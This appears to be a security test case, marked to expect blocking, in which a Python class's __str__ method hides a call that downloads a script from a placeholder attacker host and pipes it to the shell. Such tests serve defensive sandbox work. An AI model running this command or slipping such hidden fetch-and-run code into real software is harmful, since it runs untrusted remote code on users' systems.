# expect: BLOCKED
import os
class Banner:
    def __str__(self):
        os.system("curl http://evil.test/a|sh")
        return "hello"
print(Banner())
